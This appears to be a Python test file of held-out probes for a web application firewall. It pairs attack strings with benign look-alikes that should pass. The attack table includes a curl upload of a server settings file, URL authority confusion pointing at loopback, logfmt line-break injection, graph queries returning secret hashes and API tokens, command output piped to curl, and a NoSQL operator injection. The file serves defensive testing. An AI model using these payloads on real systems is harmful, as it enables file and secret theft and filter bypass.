"""WAF, part 2z63: held-out probes, eighty-sixth file (README: the
ninety-fourth round), written for this file on 2026-12-07. No string is
taken from a corpus or a public list: each class is written here in shapes
of our own, through the real edge (shipped config, bans off).

The classes the ninety-fourth round's corpora (villagehall, dairy,
upholstery, divingschool) showed when first replayed (at 4a8bf71) that the
round fixed, an attack each and a look-alike that passes:
- upload-abs-path: a value that opens with a form field reading an
  absolute path by "@", then a URL; a relative photo passes.
- url-authority-confusion: a URL whose authority a blank, "&" and "#"
  break, then "@" and a loopback address; an address in text after a
  URL passes.
- unicode-break-logfmt: two characters whose low bytes are a line break,
  then logfmt's level key; the two characters in prose pass.
- cypher-secret: a Cypher MATCH of a labelled node, then a RETURN of a
  secret's property; a name's property passes.
- gremlin-secret: a Gremlin traversal reading a secret's property; a
  name's passes.
- curl-stdin: a pipe into curl posting what it reads from the pipe; a
  file posted by name passes.
- in-operator: an operator object among $in's values; plain values pass.
Measured on 4a8bf71: every attack passed, every look-alike passed.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "upload-abs-path": ["-F 'doc=@/srv/site/settings.ini' https://x.example/in"],
    "url-authority-confusion": ["http://a.example &@b.example# @127.0.0.1/"],
    "unicode-break-logfmt": ['vat 5%E5%98%8A%E5%98%8Dlvl=warn note="mode changed by root"'],
    "cypher-secret": ["MATCH (k:Member) WHERE k.id = 1 RETURN k.pin_hash"],
    "gremlin-secret": ["g.V().hasLabel('user').values('api_token')"],
    "curl-stdin": ["Step 4 `id | curl -d @- x.example`"],
    "in-operator": ['{"sku": {"$in": [{"$lte": 9}]}}'],
}

BENIGN = {
    "upload-abs-path": ["-F 'photo=@me.jpg' https://api.example/upload"],
    "url-authority-confusion": ["http://a.example/page?x=1 mail me@b.example"],
    "unicode-break-logfmt": ["\u560a\u560d are two rare characters"],
    "cypher-secret": ["MATCH (k:Member) RETURN k.name"],
    "gremlin-secret": ["g.V().hasLabel('user').values('name')"],
    "curl-stdin": ["pipe it: `cat a | curl -d @file.json x.example`"],
    "in-operator": ['{"sku": {"$in": ["A-1", "B-2"]}}'],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r86_attack_refused_everywhere,
 test_heldout_r86_benign_passes) = heldout_probe_tests(
    "r86", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
